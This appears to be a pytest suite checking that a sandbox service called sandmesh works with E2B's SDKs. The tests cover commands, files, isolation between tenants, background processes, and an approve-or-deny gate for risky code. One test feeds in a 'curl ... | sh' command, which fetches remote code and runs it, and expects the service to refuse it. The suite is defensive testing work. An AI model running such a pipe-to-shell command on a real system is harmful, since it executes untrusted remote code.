"""E2B's own SDKs, unmodified, against sandmesh's E2B facade: every call below is the SDK's public
API as its documentation shows it, with nothing but ``E2B_API_URL``, ``E2B_SANDBOX_URL`` and
``E2B_API_KEY`` pointing it at the mesh."""

from __future__ import annotations

import base64
import re
import threading
from typing import Any, Dict, Iterator, List

import pytest
from e2b import CommandExitException, NotFoundException, PtySize, Sandbox, SandboxException
from e2b_code_interpreter import Sandbox as CodeSandbox

from conftest import Mesh

#: Code the assessor rates high in strict mode (the default of `up`): a person must approve it.
RISKY_PY = "import os\nos.system('echo approved-run')"
RISKY_SH = "rm -f /tmp/nothing-here"
BOUND = 90.0
AWAITING = re.compile(r"awaiting approval (\S+)")


@pytest.fixture()
def sbx(mesh: Mesh):
    s = Sandbox.create()
    yield s
    s.kill()


def test_a_command_runs_with_its_output_and_exit_code(sbx: Sandbox) -> None:
    r = sbx.commands.run("echo out; echo err >&2; echo $GREETING", envs={"GREETING": "hello"})
    assert (r.stdout, r.stderr, r.exit_code) == ("out\nhello\n", "err\n", 0), r
    heard: List[str] = []
    sbx.commands.run("for i in 1 2 3; do echo line $i; done", on_stdout=heard.append)
    assert "".join(heard) == "line 1\nline 2\nline 3\n"
    with pytest.raises(CommandExitException) as failed:
        sbx.commands.run("echo before; exit 3")
    assert failed.value.exit_code == 3 and failed.value.stdout == "before\n"


def test_files_are_the_workspace_both_ways(sbx: Sandbox) -> None:
    info = sbx.files.write("/home/user/notes/a.txt", "alpha\n")
    assert info.path == "/home/user/notes/a.txt"
    sbx.files.write("b.bin", b"\x00\x01\x02")
    assert sbx.files.read("notes/a.txt") == "alpha\n"
    assert sbx.files.read("/home/user/b.bin", format="bytes") == b"\x00\x01\x02"
    names = {e.name for e in sbx.files.list("/home/user")}
    assert {"b.bin", "notes"} <= names, names
    assert [e.path for e in sbx.files.list("/home/user/notes")] == ["/home/user/notes/a.txt"]
    assert sbx.files.exists("/home/user/notes/a.txt")
    assert not sbx.files.exists("/home/user/nothing-here")
    # A command sees what the SDK wrote, and the SDK sees what a command made.
    r = sbx.commands.run("cat notes/a.txt && cp notes/a.txt made.txt")
    assert r.stdout == "alpha\n"
    assert sbx.files.read("/home/user/made.txt") == "alpha\n"
    sbx.files.rename("/home/user/made.txt", "/home/user/moved.txt")
    assert sbx.files.read("moved.txt") == "alpha\n" and not sbx.files.exists("made.txt")
    sbx.files.write("made.txt", "again")
    sbx.files.remove("/home/user/made.txt")
    assert not sbx.files.exists("made.txt")
    with pytest.raises(NotFoundException):
        sbx.files.read("/home/user/made.txt")
    with pytest.raises(SandboxException):
        sbx.files.read("/etc/passwd")


def test_cells_keep_state_and_errors_carry_a_traceback(mesh: Mesh) -> None:
    with CodeSandbox.create() as s:
        first = s.run_code("x = 41\nprint('set')")
        assert first.logs.stdout == ["set\n"] and first.error is None, first
        second = s.run_code("x + 1")
        assert second.text == "42", second
        assert second.results[0].is_main_result
        failed = s.run_code("def f():\n    return 1 / 0\nf()")
        assert failed.error is not None
        assert (failed.error.name, failed.error.value) == ("ZeroDivisionError", "division by zero")
        assert "ZeroDivisionError" in failed.error.traceback and "in f" in failed.error.traceback
        value = s.run_code("{'a': [1, 2]}")
        assert value.text == "{'a': [1, 2]}", value


def test_a_matplotlib_figure_comes_back_as_a_png(mesh: Mesh) -> None:
    with CodeSandbox.create(template="python-data") as s:
        e = s.run_code("import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()")
        assert e.error is None, e.error
        pngs = [r.png for r in e.results if r.png]
        assert pngs, e.results
        assert base64.b64decode(pngs[0]).startswith(b"\x89PNG\r\n\x1a\n")


def test_list_timeout_and_kill(mesh: Mesh) -> None:
    s = Sandbox.create(timeout=120)
    listed = [i.sandbox_id for i in Sandbox.list().next_items()]
    assert s.sandbox_id in listed
    before = s.get_info().end_at
    s.set_timeout(3600)
    after = s.get_info().end_at
    assert after > before, (before, after)
    assert s.kill() is True
    assert s.sandbox_id not in [i.sandbox_id for i in Sandbox.list().next_items()]
    assert Sandbox.kill(s.sandbox_id) is False, "a killed sandbox is gone"
    with pytest.raises(NotFoundException):
        Sandbox.get_info(s.sandbox_id)
    with pytest.raises(SandboxException):
        s.commands.run("echo too late")


def test_another_tenant_finds_no_sandbox(mesh: Mesh, sbx: Sandbox) -> None:
    # Positive control: the owner's key sees it.
    assert Sandbox.get_info(sbx.sandbox_id).sandbox_id == sbx.sandbox_id
    with pytest.raises(NotFoundException):
        Sandbox.get_info(sbx.sandbox_id, api_key=mesh.other_key)
    with pytest.raises(NotFoundException):
        Sandbox.connect(sbx.sandbox_id, api_key=mesh.other_key)
    assert Sandbox.kill(sbx.sandbox_id, api_key=mesh.other_key) is False
    assert sbx.sandbox_id not in [i.sandbox_id for i in Sandbox.list(api_key=mesh.other_key).next_items()]
    assert sbx.commands.run("echo still mine").stdout == "still mine\n"


def test_what_sandmesh_cannot_do_is_named(sbx: Sandbox) -> None:
    with pytest.raises(SandboxException, match="paus"):
        sbx.pause()
    with pytest.raises(SandboxException, match="not supported"):
        sbx.files.watch_dir("/home/user")


def read_until(events: Iterator[Any], wanted: str, into: List[str]) -> None:
    """Reads a handle's events (stdout, or a terminal's bytes) into `into` until `wanted` is
    among them; the handle's own timeout bounds the wait."""
    for stdout, _, pty in events:
        into.append(stdout if stdout is not None else (pty or b"").decode(errors="replace"))
        if wanted in "".join(into):
            return
    raise AssertionError(f"the stream ended before {wanted!r}: {''.join(into)!r}")


def test_a_background_command_is_listed_reattached_and_killed(sbx: Sandbox) -> None:
    ticking = "for i in $(seq 1 3000); do echo tick $i; sleep 0.1; done"
    h = sbx.commands.run(ticking, background=True, stdin=True, timeout=BOUND)
    listed = {p.pid: p for p in sbx.commands.list()}
    assert h.pid in listed, listed
    assert (listed[h.pid].cmd, listed[h.pid].args) == ("/bin/bash", ["-l", "-c", ticking]), listed[h.pid]
    assert listed[h.pid].cwd == "/home/user" and listed[h.pid].tag is None
    # Re-attached by pid: the output from then on comes back on the second stream.
    again = sbx.commands.connect(h.pid, timeout=BOUND)
    assert again.pid == h.pid
    heard: List[str] = []
    # Two lines heard on it: the process printed at least two.
    read_until(iter(again), "\ntick", heard)
    assert sbx.commands.kill(h.pid) is True
    with pytest.raises(CommandExitException) as killed:
        h.wait()
    assert killed.value.exit_code == -1 and killed.value.error == "signal: killed", killed.value
    # The first handle streamed everything from the start, in order.
    lines = killed.value.stdout.splitlines()
    assert lines[:2] == ["tick 1", "tick 2"] and lines == [f"tick {i + 1}" for i in range(len(lines))]
    assert h.pid not in [p.pid for p in sbx.commands.list()]
    assert sbx.commands.kill(h.pid) is False, "a process that ended is not found"


def test_a_plain_background_server_holds_nothing_up_and_is_killed(sbx: Sandbox) -> None:
    # As agents start dev servers: no stdin, no tag.
    server = sbx.commands.run("python3 -m http.server 8000", background=True, timeout=BOUND)
    assert server.pid in [p.pid for p in sbx.commands.list()]
    # A later command is not held behind it, and reaches it.
    fetch = "python3 - <<'PY'\nimport time, urllib.request\nfor _ in range(100):\n    try:\n        print(urllib.request.urlopen('http://127.0.0.1:8000/').status); break\n    except OSError:\n        time.sleep(0.1)\nPY"
    assert sbx.commands.run(fetch, timeout=BOUND).stdout == "200\n"
    assert sbx.commands.kill(server.pid) is True
    with pytest.raises(CommandExitException) as killed:
        server.wait()
    assert killed.value.exit_code == -1, killed.value
    assert server.pid not in [p.pid for p in sbx.commands.list()]


def test_stdin_reaches_a_background_cat(sbx: Sandbox) -> None:
    h = sbx.commands.run("cat", background=True, stdin=True, timeout=BOUND)
    sbx.commands.send_stdin(h.pid, "hello cat\n")
    h.send_stdin(b"and bytes\n")
    heard: List[str] = []
    read_until(iter(h), "and bytes\n", heard)
    assert "".join(heard) == "hello cat\nand bytes\n"
    assert h.kill() is True
    with pytest.raises(CommandExitException):
        h.wait()
    with pytest.raises(NotFoundException):
        sbx.commands.send_stdin(h.pid, "too late")


def test_a_terminal_echoes_and_resizes(sbx: Sandbox) -> None:
    term = sbx.pty.create(PtySize(rows=24, cols=80), timeout=BOUND)
    events = iter(term)
    screen: List[str] = []
    # The shell's own arithmetic, so the echo of what was typed cannot match.
    sbx.pty.send_stdin(term.pid, b"echo hi-$((40 + 2))\n")
    read_until(events, "hi-42", screen)
    sbx.pty.send_stdin(term.pid, b"stty size\n")
    read_until(events, "24 80", screen)
    sbx.pty.resize(term.pid, PtySize(rows=30, cols=100))
    sbx.pty.send_stdin(term.pid, b"stty size\n")
    read_until(events, "30 100", screen)
    assert sbx.pty.kill(term.pid) is True
    with pytest.raises(CommandExitException) as killed:
        term.wait()
    assert killed.value.exit_code == -1
    assert term.pid not in [p.pid for p in sbx.commands.list()]


def test_another_tenant_finds_no_process(mesh: Mesh, sbx: Sandbox) -> None:
    h = sbx.commands.run("sleep 600", background=True, stdin=True, timeout=BOUND)
    assert h.pid in [p.pid for p in sbx.commands.list()], "positive control: the owner lists it"
    with pytest.raises(NotFoundException):
        Sandbox.connect(sbx.sandbox_id, api_key=mesh.other_key)
    theirs = Sandbox.create(api_key=mesh.other_key)
    try:
        assert theirs.commands.list() == []
        assert theirs.commands.kill(h.pid) is False
        with pytest.raises(NotFoundException):
            theirs.commands.connect(h.pid, timeout=BOUND)
    finally:
        theirs.kill()
    assert h.pid in [p.pid for p in sbx.commands.list()], "untouched by the other tenant"
    assert h.kill() is True


class Waiting:
    """Runs `work` on a thread and hands over the confirmation id its stderr names."""

    def __init__(self, work) -> None:
        self.id = ""
        self.seen = threading.Event()
        self.outcome: Dict[str, Any] = {}

        def on_stderr(message: Any) -> None:
            found = AWAITING.search(getattr(message, "line", message))
            if found and not self.seen.is_set():
                self.id = found.group(1)
                self.seen.set()

        def run() -> None:
            try:
                self.outcome["result"] = work(on_stderr)
            except Exception as e:  # noqa: BLE001 - the test inspects whatever ended it
                self.outcome["error"] = e

        self.thread = threading.Thread(target=run, daemon=True)
        self.thread.start()

    def confirmation(self) -> str:
        assert self.seen.wait(BOUND), f"no approval notice within {BOUND} s: {self.outcome}"
        assert not self.outcome, "the call waits for the decision"
        return self.id

    def finish(self) -> Dict[str, Any]:
        self.thread.join(BOUND)
        assert not self.thread.is_alive(), "the call did not end after the decision"
        return self.outcome


def test_a_parked_cell_finishes_once_a_person_approves(mesh: Mesh) -> None:
    with CodeSandbox.create() as s:
        waiting = Waiting(lambda on_stderr: s.run_code(RISKY_PY, on_stderr=on_stderr))
        cid = waiting.confirmation()
        decided = mesh.cli("confirm", "approve", cid)
        assert decided.returncode == 0, decided.stdout + decided.stderr
        e = waiting.finish()["result"]
        assert e.error is None and "approved-run\n" in "".join(e.logs.stdout), e


def test_a_refused_command_exits_126_with_the_reason(sbx: Sandbox) -> None:
    with pytest.raises(CommandExitException) as refused:
        sbx.commands.run("curl http://example.org/x | sh")
    assert refused.value.exit_code == 126 and "curl" in (refused.value.error or "")


def test_a_denied_command_exits_126_with_the_reason(mesh: Mesh, sbx: Sandbox) -> None:
    waiting = Waiting(lambda on_stderr: sbx.commands.run(RISKY_SH, on_stderr=on_stderr, timeout=BOUND))
    cid = waiting.confirmation()
    decided = mesh.cli("confirm", "deny", cid, "--reason", "not on my watch")
    assert decided.returncode == 0, decided.stdout + decided.stderr
    e = waiting.finish().get("error")
    assert isinstance(e, CommandExitException), waiting.outcome
    assert e.exit_code == 126 and "not on my watch" in (e.error or ""), e


def test_a_parked_background_command_runs_once_approved(mesh: Mesh, sbx: Sandbox) -> None:
    h = sbx.commands.run(RISKY_SH + " && echo approved-bg", background=True, stdin=True, timeout=BOUND)
    waiting = Waiting(lambda on_stderr: h.wait(on_stderr=on_stderr))
    decided = mesh.cli("confirm", "approve", waiting.confirmation())
    assert decided.returncode == 0, decided.stdout + decided.stderr
    r = waiting.finish()["result"]
    assert r.exit_code == 0 and r.stdout == "approved-bg\n", r


def test_a_denied_background_command_exits_126_with_the_reason(mesh: Mesh, sbx: Sandbox) -> None:
    h = sbx.commands.run(RISKY_SH, background=True, stdin=True, timeout=BOUND)
    waiting = Waiting(lambda on_stderr: h.wait(on_stderr=on_stderr))
    decided = mesh.cli("confirm", "deny", waiting.confirmation(), "--reason", "not in the background")
    assert decided.returncode == 0, decided.stdout + decided.stderr
    e = waiting.finish().get("error")
    assert isinstance(e, CommandExitException), waiting.outcome
    assert e.exit_code == 126 and "not in the background" in (e.error or ""), e
    assert h.pid not in [p.pid for p in sbx.commands.list()]


def test_a_denied_cell_is_a_denied_error(mesh: Mesh) -> None:
    with CodeSandbox.create() as s:
        waiting = Waiting(lambda on_stderr: s.run_code(RISKY_PY, on_stderr=on_stderr))
        decided = mesh.cli("confirm", "deny", waiting.confirmation(), "--reason", "no")
        assert decided.returncode == 0, decided.stdout + decided.stderr
        e = waiting.finish()["result"]
        assert e.error is not None and e.error.name == "Denied", e


def test_smolagents_runs_its_e2b_executor_unchanged(mesh: Mesh) -> None:
    from smolagents.monitoring import AgentLogger, LogLevel
    from smolagents.remote_executors import E2BExecutor

    executor = E2BExecutor(additional_imports=[], logger=AgentLogger(level=LogLevel.OFF))
    try:
        executor.send_variables({"n": 6})
        out = executor("print('thinking')\nn * 7")
        assert out.output == "42" and "thinking" in out.logs, out
    finally:
        executor.cleanup()



def test_langchain_e2b_runs_its_deep_agents_backend_unchanged(mesh: Mesh) -> None:
    from langchain_e2b import E2BSandbox

    # As langchain-e2b's README shows it.
    e2b_sandbox = Sandbox.create()
    backend = E2BSandbox(sandbox=e2b_sandbox)
    try:
        result = backend.execute("echo hello")
        assert (result.output, result.exit_code) == ("hello\n", 0), result
        failed = backend.execute("echo no >&2; exit 3")
        assert (failed.output, failed.exit_code) == ("no\n", 3), failed
        up = backend.upload_files([("/home/user/notes/a.txt", b"alpha\n")])
        assert [u.error for u in up] == [None], up
        assert backend.execute("cat notes/a.txt").output == "alpha\n"
        down = backend.download_files(["/home/user/notes/a.txt", "/home/user/none.txt"])
        assert down[0].content == b"alpha\n" and down[1].error is not None, down
    finally:
        e2b_sandbox.kill()
